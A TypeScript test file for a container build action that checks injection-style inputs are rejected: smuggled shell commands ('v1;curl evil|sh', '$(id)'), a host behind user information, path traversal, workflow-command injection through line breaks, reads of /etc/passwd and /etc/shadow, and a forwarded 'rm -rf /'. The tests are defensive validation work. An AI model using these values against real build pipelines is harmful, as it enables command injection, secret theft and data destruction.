// Values of `build` that would be another image, an option of the engine or a command: refused by their input's name before an engine or a registry sees them.
import { chmod, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { runStep } from "../support/runner.ts";
import { findTool } from "../support/tools.ts";
import { type Checkout, makeCheckout } from "./build-ground.ts";

let folder: string;
let checkout: Checkout;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "waybill-hostile-"));
  checkout = await makeCheckout(join(folder, "checkout"), { Dockerfile: "FROM scratch\n" });
  await symlink(findTool("git") ?? "", join(folder, "git"));
  // It writes down what it is told.
  await writeFile(
    join(folder, "buildah"),
    `#!/bin/sh\n[ "$1" = --version ] && echo "buildah version 1.28.2" && exit\necho "$@" >> ${folder}/told\nexit 1\n`,
  );
  await chmod(join(folder, "buildah"), 0o755);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const build = (inputs: Readonly<Record<string, string>>) =>
  runStep({
    action: "build",
    with: { image: "127.0.0.1:1/acme/hello", engine: "buildah", push: "false", ...inputs },
    token: "",
    repository: "acme/hello",
    serverUrl: "https://github.example",
    apiUrl: "https://github.example/api",
    graphqlUrl: "https://github.example/graphql",
    event: { name: "push", payload: {} },
    sha: checkout.sha,
    workspace: checkout.folder,
    env: { PATH: folder },
  });

test("a dry run is refused for the same reasons, and an engine is not needed for that", async () => {
  const refused = await build({ "dry-run": "true", engine: "podman", "extra-arguments": "--push" });
  expect(refused).toMatchObject({ exitCode: 2, outputs: { result: "failed" } });
  expect(refused.outputs["reason"]).toMatch(/"--push" of the input `extra-arguments`/u);
});

describe("a build is refused", () => {
  test.each<readonly [what: string, inputs: Readonly<Record<string, string>>, says: RegExp]>([
    ["a host behind user information", { image: "ghcr.io@evil.example/org/app" }, /ghcr\.io@evil\.example/u],
    ["a name that climbs", { image: "ghcr.io/org/../evil/app" }, /ghcr\.io\/org\/\.\.\/evil\/app/u],
    ["a name that is an option", { image: "--help" }, /--help/u],
    ["a name with a tag", { image: "ghcr.io/acme/app:1" }, /the input `image` is "ghcr\.io\/acme\/app:1"/u],
    ["a name with a command", { image: "ghcr.io/acme/$(id)" }, /\$\(id\)/u],
    ["a name with a line break", { image: "ghcr.io/acme/app\n::add-mask::x" }, /image/u],
    ["a version with a command", { version: "v1;curl evil|sh" }, /v1;curl evil\|sh/u],
    ["a version that is an expression", { version: "${{ secrets.X }}" }, /\$\{\{ secrets\.X \}\}/u],
    ["a version of 129 characters", { version: "1".repeat(129) }, /1{60}/u],
    ["a version that is an option", { version: "--push" }, /--push/u],
    ["a build argument in two lines", { "build-args": "A=x\n--push" }, /the input `build-args` has the line "--push"/u],
    ["a build argument without a name", { "build-args": "=x" }, /the input `build-args` has the line "=x"/u],
    ["a build argument with a hostile name", { "build-args": "A B=x" }, /the build argument "A B"/u],
    ["a label in two lines", { labels: "a=b\n::stop-commands::t" }, /the input `labels` has the line "::stop-c/u],
    ["a label with a space in its key", { labels: "a b=c" }, /the label "a b"/u],
    ["a secret given itself", { secrets: "token=hunter2-and-more" }, /never the value/u],
    ["a push behind our back", { "extra-arguments": "--push" }, /"--push" of the input `extra-arguments`.*`push`/u],
    ["a tag behind our back", { "extra-arguments": "-t\nother" }, /"-t" of the input `extra-arguments`.*`version`/u],
    ["a tag among short options", { "extra-arguments": "-qtother" }, /"-qtother" of the input `extra-arguments`/u],
    ["another output", { "extra-arguments": "--output=type=local,dest=/" }, /`push` and `load`/u],
    ["another Dockerfile", { "extra-arguments": "--file=/etc/passwd" }, /use the input `file`/u],
    ["a second secret", { "extra-arguments": "--secret=id=a,src=/etc/shadow" }, /use the input `secrets`/u],
    ["an end of the options", { "extra-arguments": "--" }, /"--" of the input `extra-arguments`/u],
    ["a platform that is more", { platforms: "linux/amd64 --push" }, /`platforms`/u],
    ["a Dockerfile on standard input", { file: "-" }, /the file is "-"/u],
    ["a context on standard input", { context: "-" }, /the context is "-"/u],
  ])("for %s", async (_what, inputs, says) => {
    const refused = await build(inputs);
    expect(refused, refused.log).toMatchObject({ exitCode: 2, outputs: { result: "failed" } });
    expect(refused.outputs["reason"]).toMatch(says);
    expect(refused.log).not.toContain("hunter2");
    expect(
      refused.log.split("\n").filter((line) => /^\s*::(?!error::|debug::|add-mask::[\w+/=]{4,}$)/u.test(line)),
    ).toEqual([]);
    await expect(readFile(join(folder, "told"), "utf8")).rejects.toThrow(/ENOENT/u);
  });

  test("never for an argument that Waybill has no word for: the engine gets it as it is", async () => {
    const tried = await build({ "extra-arguments": "--network=none\n--shm-size=1m; rm -rf /" });
    expect(tried.exitCode).toBe(1);
    expect(await readFile(join(folder, "told"), "utf8")).toContain("--network=none --shm-size=1m; rm -rf / .");
  });
});
